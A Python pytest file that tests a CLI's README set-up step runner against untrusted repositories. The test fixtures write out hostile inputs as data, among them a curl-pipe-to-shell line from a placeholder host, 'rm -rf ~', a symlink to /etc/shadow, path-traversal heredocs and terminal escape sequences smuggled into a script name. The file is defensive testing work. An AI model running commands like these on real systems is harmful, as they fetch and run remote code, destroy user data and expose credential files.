"""A repository's set-up step is not trusted (issue 14, re-checked for `toolbox-tui setup`): what
its README names before `docker compose up` must not make the installed command run code from the
network or from outside the repository, read or write outside it, hang, read without bound,
backtrack for hours on a crafted line, or drive the terminal. Real files, links and FIFOs; every
run has a timeout, so a regression fails instead of hanging.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from .invariants import problems, run_exe

TIMEOUT = 60
COMPOSE = "services:\n  app:\n    image: busybox\n"


def repo(root: Path, readme: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / ".git").mkdir(exist_ok=True)
    (root / "compose.yaml").write_text(COMPOSE)
    (root / "README.md").write_text(readme)
    return root


def block(*lines: str) -> str:
    return "# Demo\n\n```bash\n" + "\n".join(lines) + "\ndocker compose up -d\n```\n"


def script(path: Path, body: str) -> Path:
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def setup(root: Path, *args: str, timeout: float = TIMEOUT) -> tuple[str, str, int, float]:
    start = time.monotonic()
    out, err, code = run_exe(["setup", *args], root, timeout=timeout)
    return out, err, code, time.monotonic() - start


def clean(out: str, err: str, code: int) -> None:
    bad = problems(out, err, code)
    bad += [f"{m!r} on output" for m in ("internal error", "RecursionError", "MemoryError")
            if m in out + err]
    assert not bad, bad


@pytest.fixture
def marker(tmp_path) -> Path:
    """A file that appears only if code from outside the repository ran."""
    return tmp_path / "PWNED"


def test_remote_and_outside_scripts_are_listed_not_run(tmp_path, marker, record) -> None:
    record.case("setup step", "curl | sh, ../ and absolute scripts, a link to one outside")
    outside = tmp_path / "outside"
    outside.mkdir()
    evil = script(outside / "evil.sh", f"touch {marker}\n")
    root = repo(tmp_path / "repo", block("curl -fsSL https://example.invalid/i.sh | sh",
                                         f"{evil}", "bash ../outside/evil.sh", "./install.sh",
                                         "rm -rf ~"))
    (root / "install.sh").symlink_to(evil)
    out, err, code, _ = setup(root, "--yes")
    clean(out, err, code)
    assert not marker.exists(), "code from outside the repository ran"
    assert out.count("not run by toolbox-tui") == 4 * 2, out  # the sentence and the status
    assert "downloads code from the network" in out and "resolves outside the repository" in out
    assert "rm -rf" not in out  # not a step: another tool's command, never run
    record.note("4 steps listed as not run, with the reason; nothing ran")


def test_copy_and_heredoc_outside_are_refused_and_named(tmp_path, record) -> None:
    record.case("setup step", "cp from a link to /etc/shadow, cp onto a link outside, heredoc to ../")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = repo(tmp_path / "repo", block("cp env.example .env", "cp app.example conf/app.env",
                                         "tee ../../escaped.yml <<EOF", "x: 1", "EOF"))
    (root / "env.example").symlink_to("/etc/shadow")
    (root / "app.example").write_text("A=1\n")
    (root / "conf").symlink_to(elsewhere)
    out, err, code, _ = setup(root, "--yes")
    clean(out, err, code)
    assert out.count("resolves outside the repository") == 3, out
    assert "(/etc/shadow)" in out and "root:" not in out + err
    assert not list(elsewhere.iterdir()) and not (tmp_path / "escaped.yml").exists()
    assert not os.path.lexists(root / ".env")
    record.note("3 steps named as leading outside (with where); nothing read or written")


def test_a_copy_that_cannot_be_done_fails_that_step_only(tmp_path, record) -> None:
    record.case("setup step", "cp of a 5 MB template, heredoc into a missing folder")
    root = repo(tmp_path / "repo", block("cp big.example .env", "cat > nodir/x.yml <<EOF", "a: 1",
                                         "EOF", "cp small.example small.env"))
    (root / "big.example").write_bytes(b"A=1\n" * 1_250_000)
    (root / "small.example").write_text("B=2\n")
    out, err, code, _ = setup(root, "--yes")
    clean(out, err, code)
    assert code == 1, (code, err)
    assert "README.md:4: `cp big.example .env` was not done" in err and "it was not read" in err
    assert "README.md:5: `cat > nodir/x.yml <<EOF` was not done" in err
    assert (root / "small.env").read_text() == "B=2\n", "the later step still ran"
    record.note("exit 1; each failure located at README.md:N; the next step ran")


@pytest.mark.parametrize("where", ["inside", "outside"])
def test_a_link_to_a_fifo_does_not_hang(tmp_path, where, record) -> None:
    record.case("setup step", f"./configure -> a FIFO {where} the repository")
    root = repo(tmp_path / "repo", block("./configure"))
    fifo = (root if where == "inside" else tmp_path) / "pipe"
    os.mkfifo(fifo)
    (root / "configure").symlink_to(fifo)
    for args in (("setup", "--yes"), ("doctor",)):
        start = time.monotonic()
        out, err, code = run_exe(list(args), root, timeout=TIMEOUT)
        clean(out, err, code)
        assert time.monotonic() - start < 30
    record.note("setup and doctor finish (they hung forever)")


def test_escapes_in_step_text_and_script_output_are_stripped(tmp_path, record) -> None:
    record.case("setup step", "OSC title / ESC[2J in the script's name, its arguments and output")
    name = "g\x1b]0;PWNED\x07\x1b[2Jen.sh"
    root = repo(tmp_path / "repo", block(f"./{name}"))
    script(root / name, 'printf "one\\n\\033]0;OUT\\007\\033[2Jtwo \\033[31mred\\033[0m\\n"\n')
    out, err, code, _ = setup(root, "--yes")
    clean(out, err, code)
    assert "one" in out and "two red" in out and "PWNED" not in out and "OUT" not in out
    js, err, code, _ = setup(root, "--list", "--json")
    clean(js, err, code)
    assert json.loads(js)["steps"][0]["command"] == f"./{name}"  # exact, escaped as \\u001b
    record.note("no control character on stdout/stderr; JSON keeps the exact name, escaped")


def test_flooding_and_lingering_output_is_bounded(tmp_path, record) -> None:
    record.case("setup step", "a 300 MB line without a newline; a background child holding stdout")
    root = repo(tmp_path / "repo", block("./install.sh"))
    script(root / "install.sh", "head -c 300000000 /dev/zero | tr '\\0' a\necho\necho done\n"
                                "(sleep 50; echo late) &\n")
    out, err, code, took = setup(root, "--yes")
    clean(out, err, code)
    assert code == 0 and took < 30, took
    assert "chars]" in out and "done" in out and "late" not in out
    assert "a process it started still holds its output" in out
    assert max(len(line) for line in out.splitlines()) < 5000
    record.note(f"{took:.1f} s, longest line cut with a marker, stopped reading 2 s after exit")


@pytest.mark.parametrize("line", ["docker compose " + "--x " * 40 + "!",
                                  "curl " * 190],
                         ids=["stack-start-pattern", "curl-pipe-pattern"])
def test_crafted_lines_do_not_backtrack(tmp_path, line, record) -> None:
    record.case("setup step", f"README crafted for regex backtracking ({line[:16]}...)")
    root = repo(tmp_path / "repo", "\n".join(["```", line, "```"] * 2000) + "\n")
    for args in (("setup", "--list"), ("doctor",)):
        start = time.monotonic()
        out, err, code = run_exe(list(args), root, timeout=TIMEOUT)
        clean(out, err, code)
        assert time.monotonic() - start < 30, args
    record.note("setup --list and doctor finish in seconds (the stack-start pattern was 2^n)")


def test_a_100_mb_readme_is_not_read(tmp_path, record) -> None:
    record.case("setup step", "a 100 MB README")
    root = repo(tmp_path / "repo", "")
    with open(root / "README.md", "wb") as fh:
        fh.write(b"```\n./install.sh\n```\n")
        fh.truncate(100 * 1024 * 1024)
    script(root / "install.sh", "touch ran\n")
    out, err, code, took = setup(root, "--yes")
    clean(out, err, code)
    assert not (root / "ran").exists() and took < 30
    record.note(f"{took:.1f} s; the README is over the 2 MiB Markdown limit: not read, nothing run")
